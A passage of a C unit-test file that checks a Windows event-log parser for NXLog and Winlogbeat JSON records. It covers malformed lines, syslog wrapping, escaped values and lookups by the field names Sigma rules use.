	NO("{\"@timestamp\":\"2026-03-10T14:02:11Z\",\"winlog\":{\"event_id\""
	    "4624}}", PARSE_ERROR),
	NO("{\"@timestamp\":\"2026-03-10T14:02:11Z\",\"host\":{\"name\"},"
	    "\"winlog\":{\"event_id\":4624}}", PARSE_ERROR),
	WIN("{\"@timestamp\":\"2026-03-10T14:02:11Z\",\"winlog\":{\"event_id\":"
	    "4624}}", 4624, T_NX, SRC_AD, ""),
	/* a syslog header's host and time stand in for the event's own */
	SYS("<13>Mar 10 14:02:11 nxhost nxlog: {\"EventID\":4624,"
	    "\"TargetUserName\":\"a\"}", 4624, T_NX, "host.name=nxhost|"
	    "user.name=a|winlog.event_data.TargetUserName=a"),
	SYS("<13>Mar 10 14:02:11 nxhost nxlog: {\"EventID\":4624,"
	    "\"Hostname\":\"DC01\",\"EventTime\":\"2026-03-10 15:00:00\"}",
	    4624, T_NX + 3469000, "host.name=DC01"),
};

/* Every proper prefix of an event's line is malformed, never an event. */
static void
winevent_prefix(const char *label, const struct pt_case *c, size_t k,
    const char *line, enum parse_result r, const struct logevent *ev,
    const char *err)
{
	size_t	 len = strlen(c->line);

	(void)line;
	(void)ev;
	(void)err;
	while (len > 0 && c->line[len - 1] == '\r')
		len--;
	if (c->result == PARSE_OK && !(c->flags & PT_SYSLOG) && k > 0 &&
	    k < len)
		ck_assert_msg(r != PARSE_OK, "%s: prefix %zu parsed", label, k);
}

/* A 30,000-byte command line full of escaped backslashes. */
START_TEST(test_long)
{
	static const char	 head[] = "{\"EventID\":1,\"Channel\":\""
				    SYSMON "\"," UTCTIME ",\"CommandLine\":\"";
	static const char	 tail[] = "\",\"Image\":\"C:\\\\a.exe\"}";
	const struct parser	*p = pt_parser("windows");
	struct logevent		 ev;
	const char		*err;
	size_t			 i, n = 0, cap = 70000;
	char			*line;

	memset(&ev, 0, sizeof(ev));
	ck_assert_ptr_nonnull(line = malloc(cap));
	memcpy(line, head, sizeof(head) - 1);
	n = sizeof(head) - 1;
	for (i = 0; i < 10000; i++) {
		memcpy(line + n, "a\\\\b", 4);
		n += 4;
	}
	memcpy(line + n, tail, sizeof(tail) - 1);
	n += sizeof(tail) - 1;
	ck_assert_int_eq(pt_parse(p, NULL, line, n, 0, &ev, &err),
	    PARSE_OK);
	ck_assert_uint_eq(ev.command_line.len, 30000);
	ck_assert(memcmp(ev.command_line.p, "a\\ba\\b", 6) == 0);
	ck_assert(slice_eq(ev.process_image, "C:\\a.exe"));
	ck_assert_int_eq(ev.time_ms, T_UTC);
	free(line);
	logevent_free(&ev);
}
END_TEST

/* The arena holds every decoded value of a line full of escapes. */
START_TEST(test_arena)
{
	static const char line[] = "{\"EventID\":1,\"Channel\":\"" SYSMON "\","
	    UTCTIME ",\"Image\":\"\\\\\",\"CommandLine\":\"\\\\\\\\\","
	    "\"ParentImage\":\"\\\"\",\"ParentCommandLine\":\"\\n\\t\","
	    "\"User\":\"\\\\u\",\"Hashes\":\"\\u0041\",\"OriginalFileName\":"
	    "\"\\/\"}";
	const struct parser	*p = pt_parser("windows");
	struct logevent		 ev;
	const char		*err;

	memset(&ev, 0, sizeof(ev));
	ck_assert_int_eq(pt_parse(p, NULL, line, sizeof(line) - 1, 0, &ev,
	    &err), PARSE_OK);
	ck_assert(slice_eq(ev.process_image, "\\"));
	ck_assert(slice_eq(ev.command_line, "\\\\"));
	ck_assert(slice_eq(ev.parent_image, "\""));
	ck_assert(slice_eq(ev.parent_command_line, "\n\t"));
	ck_assert(slice_eq(ev.user, "u"));
	ck_assert(slice_eq(ev.hashes, "A"));
	ck_assert(slice_eq(ev.file_name, "/"));
	ck_assert_uint_le(ev.arena_len, sizeof(line) + 64);
	logevent_free(&ev);
}
END_TEST

/*
 * Lookups by the names Sigma uses (logevent_native).  The event data of
 * both lines: ImageLoaded before Image, so that a key matched by its
 * prefix shows; escapes to decode; an empty value; an object of another
 * name holding keys of the event data, which must not be found.
 */
#define NXD \
	"\"Nested\":{\"GrantedAccess\":\"0x1410\",\"Image\":\"inner\"}," \
	"\"ImageLoaded\":\"C:\\\\Windows\\\\x.dll\"," \
	"\"Image\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\"," \
	"\"CommandLine\":\"cmd /c \\\"echo hi\\\"\",\"Signed\":\"\"," \
	"\"ParentImage\":null,\"ProcessId\":4242," \
	"\"Decoy\":\"\\\"TargetFilename\\\":\\\"evil\\\"\""
#define WBD \
	"\"ImageLoaded\":\"C:\\\\Windows\\\\x.dll\"," \
	"\"Image\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\"," \
	"\"CommandLine\":\"cmd /c \\\"echo hi\\\"\",\"Signed\":\"\"," \
	"\"GrantedAccess\":\"0x1410\""
#define NXL	NX("1", SYSMON, "WS-ALICE.corp.local", NXD)
#define WBL	WB("1", SYSMON, "WS-ALICE.corp.local", WBD)
#define CMD	"C:\\Windows\\System32\\cmd.exe"
#define PROV	"Microsoft-Windows-Security-Auditing"
#define NAT(nm, l, f, w) \
	{ .format = "windows", .name = nm, .line = l, .field = f, .want = w }

static const struct pt_native natives[] = {
	/* NXLog: everything at the top level */
	NAT("nx escaped", NXL, "Image", CMD),
	NAT("nx longer key", NXL, "ImageLoaded", "C:\\Windows\\x.dll"),
	NAT("nx prefix", NXL, "Imag", NULL),
	NAT("nx case", NXL, "image", NULL),
	NAT("nx quote", NXL, "CommandLine", "cmd /c \"echo hi\""),
	NAT("nx EventID", NXL, "EventID", "1"),
	NAT("nx Channel", NXL, "Channel", SYSMON),
	NAT("nx Provider_Name", NXL, "Provider_Name", PROV),
	NAT("nx Computer", NXL, "Computer", "WS-ALICE.corp.local"),
	NAT("nx own name", NXL, "Hostname", "WS-ALICE.corp.local"),
	NAT("nx number", NXL, "ProcessId", "4242"),
	NAT("nx negative", NXL, "Keywords", "-9214364837600034816"),
	NAT("nx empty", NXL, "Signed", ""),
	NAT("nx null", NXL, "ParentImage", NULL),
	NAT("nx absent", NXL, "TargetFilename", NULL),
	NAT("nx nested only", NXL, "GrantedAccess", NULL),
	NAT("nx array", NXL, "tags", "a,b"),
	NAT("nx ProviderName", "{\"EventID\":4688,\"EventTime\":"
	    "\"2026-03-10 14:02:11\",\"ProviderName\":\"" PROV "\"}",
	    "Provider_Name", PROV),
	NAT("nx behind syslog", "<13>Mar 10 14:02:11 nxhost nxlog: "
	    "{\"EventID\":4624,\"TargetUserName\":\"a\"}", "TargetUserName",
	    "a"),
	NAT("nx syslog host", "<13>Mar 10 14:02:11 nxhost nxlog: "
	    "{\"EventID\":4624,\"TargetUserName\":\"a\"}", "Computer", NULL),
	/* Winlogbeat: event data under winlog.event_data */
	NAT("wb escaped", WBL, "Image", CMD),
	NAT("wb longer key", WBL, "ImageLoaded", "C:\\Windows\\x.dll"),
	NAT("wb prefix", WBL, "Imag", NULL),
	NAT("wb quote", WBL, "CommandLine", "cmd /c \"echo hi\""),
	NAT("wb empty", WBL, "Signed", ""),
	NAT("wb key", WBL, "GrantedAccess", "0x1410"),
	NAT("wb absent", WBL, "TargetFilename", NULL),
	NAT("wb EventID", WBL, "EventID", "1"),
	NAT("wb Channel", WBL, "Channel", SYSMON),
	NAT("wb Provider_Name", WBL, "Provider_Name", PROV),
	NAT("wb Computer", WBL, "Computer", "WS-ALICE.corp.local"),
	NAT("wb nested elsewhere", WBL, "pid", NULL),
	NAT("wb agent name", WBL, "name", NULL),
	NAT("wb winlog member", WBL, "task", NULL),
	NAT("wb path", WBL, "winlog.event_data.Image", CMD),
	NAT("wb path number", WBL, "winlog.process.thread.id", "6500"),
	NAT("wb path object", WBL, "winlog.process", NULL),
	NAT("wb path array", WBL, "winlog.keywords", "Audit Success"),
	NAT("wb event.code", WBL, "event.code", "9"),
	NAT("wb message", WBL, "message",
	    "An account was successfully logged on.\r\n"),
	NAT("wb EventID from event.code", "{\"@timestamp\":"
	    "\"2026-03-10T14:02:11Z\",\"event\":{\"code\":\"4688\"},"
	    "\"winlog\":{\"channel\":\"Security\",\"event_data\":{}}}",
	    "EventID", "4688"),
	NAT("wb data over top", "{\"Image\":\"top\",\"@timestamp\":"
	    "\"2026-03-10T14:02:11Z\",\"winlog\":{\"channel\":\"Security\","
	    "\"event_id\":4688,\"user_data\":{\"Image\":\"user\"},"
	    "\"event_data\":{\"Image\":\"data\",\"Image\":\"again\"}}}",
	    "Image", "data"),
	NAT("wb user over top", "{\"Image\":\"top\",\"@timestamp\":"
	    "\"2026-03-10T14:02:11Z\",\"winlog\":{\"channel\":\"Security\","
	    "\"event_id\":4688,\"user_data\":{\"Image\":\"user\"}}}",
	    "Image", "user"),
	NAT("nx first of two", "{\"EventID\":4688,\"EventTime\":"
	    "\"2026-03-10 14:02:11\",\"Image\":\"one\",\"Image\":\"two\"}",
	    "Image", "one"),
	NAT("wb user_data", "{\"@timestamp\":\"2026-03-10T14:02:11Z\","
	    "\"winlog\":{\"channel\":\"Security\",\"event_id\":1102,"
	    "\"user_data\":{\"SubjectUserName\":\"bob\"}}}", "SubjectUserName",
	    "bob"),
};

#define PT_SUITE	"winevent"
#define PT_NATIVE
#define PT_ROW		"windows", SRC_AD, PARSER_SYSLOG, 0
#define PT_GARBAGE	"{}[]\":,\\ u0a1tfn-"
#define PT_SEED		88
#define PT_PREFIX	winevent_prefix
#define PT_MORE(tc) \
	do { \
		tcase_add_test(tc, test_long); \
		tcase_add_test(tc, test_arena); \
	} while (0)
#include "parser_suite.h"
